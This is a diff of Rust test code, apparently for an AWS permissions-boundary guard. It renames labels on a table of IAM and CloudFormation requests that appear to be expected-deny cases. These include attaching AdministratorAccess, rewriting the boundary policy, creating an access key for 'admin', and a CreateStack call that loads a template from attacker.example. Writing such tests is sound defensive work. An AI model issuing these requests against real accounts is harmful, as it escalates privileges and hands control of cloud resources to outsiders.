@@ -95,17 +95,23 @@ impl Stage {
         let bounded = format!("PermissionsBoundary={boundary}");
         let name = "RoleName=TowerForge-Cafe1-InstanceRole";
         vec![
-            iam("make a role outside the prefix", create(format!("RoleName=Admin2&{bounded}"))),
-            iam("make a role without boundary", create("RoleName=TowerForge-Evil1-InstanceRole".to_owned())),
+            iam("create a role outside the prefix", create(format!("RoleName=Admin2&{bounded}"))),
             iam(
-                "make a role under a boundary that allows all",
+                "create a role without boundary",
+                create("RoleName=TowerForge-Evil1-InstanceRole".to_owned()),
+            ),
+            iam(
+                "create a role under a boundary that allows all",
                 create(format!("RoleName=TowerForge-Evil1-InstanceRole&PermissionsBoundary={admin}")),
             ),
             iam(
-                "make a role under a path",
+                "create a role under a path",
                 create(format!("RoleName=TowerForge-Evil1-InstanceRole&Path=/towerforge/&{bounded}")),
             ),
-            iam("make a role of another kind", create(format!("RoleName=TowerForge-Evil1-Admin&{bounded}"))),
+            iam(
+                "create a role of another kind",
+                create(format!("RoleName=TowerForge-Evil1-Admin&{bounded}")),
+            ),
             iam("attach AdministratorAccess", format!("AttachRolePolicy&{name}&PolicyArn={admin}")),
             iam(
                 "attach a forge's policy to a foreign role",
@@ -130,9 +136,9 @@ impl Stage {
                 "rewrite the boundary",
                 format!("CreatePolicyVersion&PolicyArn={boundary}&SetAsDefault=true&PolicyDocument={ALL}"),
             ),
-            iam("make a policy", format!("CreatePolicy&PolicyName=TowerForge-x&PolicyDocument={ALL}")),
-            iam("make a user", "CreateUser&UserName=TowerForge-x"),
-            iam("make a key for a user", "CreateAccessKey&UserName=admin"),
+            iam("create a policy", format!("CreatePolicy&PolicyName=TowerForge-x&PolicyDocument={ALL}")),
+            iam("create a user", "CreateUser&UserName=TowerForge-x"),
+            iam("create an access key for a user", "CreateAccessKey&UserName=admin"),
             iam(
                 "let others assume a foreign role",
                 format!("UpdateAssumeRolePolicy&RoleName=Admin&PolicyDocument={TRUST}"),
@@ -147,7 +153,7 @@ impl Stage {
                 "AddRoleToInstanceProfile&InstanceProfileName=Admin&RoleName=TowerForge-Cafe1-InstanceRole",
             ),
             iam(
-                "have a service make its role",
+                "create a service-linked role",
                 "CreateServiceLinkedRole&AWSServiceName=organizations.amazonaws.com",
             ),
             form(
@@ -335,7 +341,7 @@ impl Stage {
             form(
                 "cloudformation",
                 "2010-05-15",
-                "make a stack",
+                "create a stack",
                 "CreateStack&StackName=x&TemplateURL=https://attacker.example/",
             ),
         ]
